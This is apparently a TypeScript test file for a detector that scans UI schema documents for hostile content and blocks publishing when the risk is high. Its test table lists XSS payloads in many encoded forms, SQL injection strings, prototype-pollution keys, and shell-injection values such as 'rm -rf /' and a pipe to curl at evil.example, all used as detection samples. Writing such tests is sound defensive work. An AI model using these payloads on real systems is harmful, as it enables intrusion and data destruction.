import { existsSync, readdirSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createEngine } from '../create-engine.ts';
import type { Json } from '../document/types.ts';
import { galleryPage } from '../gallery/gallery-page.ts';
import { threadTime } from '../thread-time.testing.ts';
import { securityFindings } from './findings.ts';
import { securityRules } from './rules.ts';

const rulesIn = (value: Json) => securityFindings(value).map(({ rule }) => rule);
const highIn = (value: Json) => securityFindings(value).filter(({ risk }) => risk === 'high');

describe('security rules (S2)', () => {
  it('each have a risk and a description', () => {
    for (const { id, risk, description } of securityRules) {
      expect(id).toMatch(/^[a-z]+(-[a-z]+)*$/);
      expect(['high', 'medium', 'low']).toContain(risk);
      expect(description.length).toBeGreaterThan(10);
    }
  });

  it.each([
    ['<script>alert(1)</script>', 'forbidden-element'],
    ['<SCRIPT\nsrc=//x>', 'forbidden-element'],
    ['</ script >', 'forbidden-element'],
    ['&lt;script&gt;', 'forbidden-element'],
    ['&amp;lt;script&amp;gt;', 'forbidden-element'],
    ['&#60;script>', 'forbidden-element'],
    ['&#x0003c;script>', 'forbidden-element'],
    ['%3Cscript%3E', 'forbidden-element'],
    ['%253Cscript%253E', 'forbidden-element'],
    ['\\x3cscript\\x3e', 'forbidden-element'],
    ['\\u003cscript\\u003e', 'forbidden-element'],
    ['＜ｓｃｒｉｐｔ＞', 'forbidden-element'],
    ['<scr\u200bipt>', 'forbidden-element'],
    ['<s\u00adcript>', 'forbidden-element'],
    ['<ѕсriрt>', 'forbidden-element'],
    ['<iframe srcdoc=x>', 'forbidden-element'],
    ['<object data=x>', 'forbidden-element'],
    ['<embed/src=x>', 'forbidden-element'],
    ['<applet code=x>', 'forbidden-element'],
    ['<img src=x onerror=alert(1)>', 'event-handler'],
    ['<svg/onload=alert(1)>', 'event-handler'],
    ['<b/**/ONMOUSEOVER = run()>', 'event-handler'],
    ['" onfocus="run()', 'event-handler'],
    ['javascript:alert(1)', 'dangerous-address'],
    ['JaVaScRiPt:alert(1)', 'dangerous-address'],
    ['java\tscript:alert(1)', 'dangerous-address'],
    ['java&Tab;script&colon;alert(1)', 'dangerous-address'],
    [' \u0001javascript:alert(1)', 'dangerous-address'],
    ['javascript://%0aalert(1)', 'dangerous-address'],
    ['vbscript:msgbox(1)', 'dangerous-address'],
    ['<a href="javascript:void(0)">', 'dangerous-address'],
    ['data:text/html,<b>', 'dangerous-address'],
    ['data:image/svg+xml;base64,PHN2Zz4=', 'dangerous-address'],
    ['{"__proto__": {}}', 'prototype-key'],
    ['constructor.prototype.x = 1', 'prototype-key'],
    ['eval("x")', 'script'],
    ['new Function("x")()', 'script'],
    ['document.cookie = "a"', 'script'],
    ["' OR 1=1 --", 'sql'],
    ['1; DROP TABLE users', 'sql'],
    ['x UNION ALL SELECT name FROM users', 'sql'],
    ['a.txt; rm -rf /', 'shell'],
    ['x | curl https://evil.example', 'shell'],
    ['$(whoami)', 'shell'],
    ['^(a+)+$', 'expensive-pattern'],
    ['x'.repeat(9_000), 'long'],
  ])('find %j', (text, rule) => {
    expect(rulesIn(text)).toContain(rule);
    expect(securityFindings({ a: [{ b: text }] })[0]).toMatchObject({ pointer: '/a/0/b', atKey: false });
  });

  it('look at keys as well, at every depth', () => {
    const value = JSON.parse('{ "a": [{ "<script>": { "x": 1 }, "ok": { "\\uff3f_proto__": 2 } }] }') as Json;
    expect(securityFindings(value)).toMatchObject([
      { pointer: '/a/0/<script>', atKey: true, rule: 'forbidden-element' },
      { pointer: '/a/0/ok/＿_proto__', atKey: true, rule: 'prototype-key' },
    ]);
  });

  it.each([
    'Read the script before you rehearse.',
    'JavaScript: the good parts',
    'JavaScript: what it is (and why)',
    'Please select one of the options from the list, or update your table.',
    'Drop the table off at the front desk; delete the old label from it.',
    'Union members select their delegates from each region.',
    "It's yours or mine = ours? 5 < 6 and 7 > 3",
    'Fish & chips; cats & dogs | rm 204, cat food',
    'Set the alert (see page 4) and confirm (or prompt) the user.',
    'Our document management window opens on load = time to start.',
    'Once upon a time; on Monday = rest day, online="yes" is fine',
    'The constructor of the bridge had a prototype made.',
    'Total ${number(order.total, 2)} — ${order.open ? \'open\' : "closed"}',
    "${row.total == 0 || row.status == 'open' ? t(\"none\") : currency(row.total, 'EUR')}",
    'Preise ab 5 €; Größe 50 % · Ärger → für alle',
    'データ: テキスト / 2026年3月',
    'Привет, мир! Сумма: 100 %',
    'data: text and pictures are kept for 30 days',
    'https://example.com/a?b=c&d=e%20f#on-top',
    '^[A-Z]{2}[0-9]{4,6}$',
    'Ask for objects, embedded frames and forms.',
    'function (x) of the second order; see window 3',
  ])('leave prose alone: %j', (text) => {
    expect(securityFindings(text)).toEqual([]);
  });

  it('find nothing in the samples, the gallery and the first project', () => {
    const root = new URL('../../', import.meta.url);
    const documents = ['renderer-engine/samples/', 'assets/samples/acme/', 'assets/themes/']
      .flatMap((folder) =>
        readdirSync(new URL(folder, root), { recursive: true, encoding: 'utf8' }).map((name) => folder + name),
      )
      .filter((name) => name.endsWith('.json') && !/diagnostics|hostile|expected|input|report|changes/.test(name));
    expect(documents.length).toBeGreaterThan(60);
    const found = [
      ...documents.map((name) => [name, readJson(new URL(name, root))] as const),
      ['gallery', galleryPage()] as const,
    ].flatMap(([name, json]) =>
      securityFindings(json as Json).map(({ pointer, rule }) => `${name} ${pointer} ${rule}`),
    );
    // Three samples show on purpose what becomes of attacks.
    expect(found.filter((one) => !/\/tests\/|samples\/(image|link|markdown)\/document/.test(one))).toEqual([]);
  });

  it('find most of a published list of attacks', () => {
    const file = new URL('../../../shared/corpora/xss-shared.json', import.meta.url);
    if (!existsSync(file)) return console.info('The shared list of attack strings is not there.');
    const { payloads } = JSON.parse(readFileSync(file, 'utf8')) as {
      payloads: { payload: string; live: Record<string, string> }[];
    };
    const live = payloads.filter(({ live }) => Object.values(live).some((state) => state !== 'inert'));
    const missed = live.filter(({ payload }) => highIn(payload).length === 0).map(({ payload }) => payload);
    // The writer escapes them all; here it is only told what somebody tried.
    expect(missed.length / live.length).toBeLessThan(0.1);
    const all = payloads.filter(({ payload }) => rulesIn(payload).length > 0);
    expect(all.length / payloads.length).toBeGreaterThan(0.6);
  });

  it('never throw, never change anything, and take linear time', () => {
    fc.assert(
      fc.property(fc.jsonValue(), (value) => {
        const before = JSON.stringify(value);
        securityFindings(value as Json);
        expect(JSON.stringify(value)).toBe(before);
      }),
      { numRuns: 300 },
    );
    for (const piece of [
      '<',
      '<a ',
      '" on',
      'javascript:',
      '&#',
      '(a+',
      "' or ",
      '%3c',
      '\u200b<',
      'union select ',
      '; ',
      '__',
    ]) {
      expect(threadTime(() => securityFindings(piece.repeat(60_000 / piece.length)))).toBeLessThan(500);
    }
  });

  it('are errors when the risk is high, so that nothing with them is published, bases and libraries included', () => {
    const engine = createEngine();
    const page = (text: string, source = 'a') => ({
      $schema: 'https://schema-studio.dev/ui/1/page.json',
      kind: 'page' as const,
      id: 'test/risk',
      version: '1.0.0',
      title: 'Risk',
      view: {
        id: 'root',
        type: 'Stack',
        children: [
          { id: 'a', type: 'Text', props: { text } },
          { id: 'b', type: 'Code', props: { source } },
        ],
      },
    });
    const told = (text: string, source?: string) =>
      engine
        .compile(page(text, source))
        .diagnostics.map(({ code, severity, pointer }) => ({ code, severity, pointer }));
    expect(told('Hello')).toEqual([]);
    expect(told('<iframe>')).toEqual([{ code: 'UI9302', severity: 'error', pointer: '/view/children/0/props/text' }]);
    expect(told('a', '<script>')).toEqual([
      { code: 'UI9304', severity: 'info', pointer: '/view/children/1/props/source' },
    ]);
    const { program } = engine.compile(page('<iframe>'));
    expect(engine.render(program!).html).toContain('&lt;iframe&gt;');

    const layout = JSON.stringify({
      ...page('<object>'),
      $schema: 'https://schema-studio.dev/ui/1/layout.json',
      kind: 'layout',
      id: 'test/base',
    });
    const { view: _, ...child } = page('');
    const found = createEngine({ documents: { find: (id) => (id === 'test/base' ? [{ text: layout }] : []) } }).compile(
      JSON.stringify({ ...child, extends: 'test/base@^1.0.0' }),
    );
    expect(found.diagnostics).toMatchObject([{ code: 'UI9302', document: 'test/base@1.0.0' }]);
  });
});

function readJson(file: URL): unknown {
  try {
    return JSON.parse(readFileSync(file, 'utf8'));
  } catch {
    // Some samples are no JSON on purpose.
    return null;
  }
}
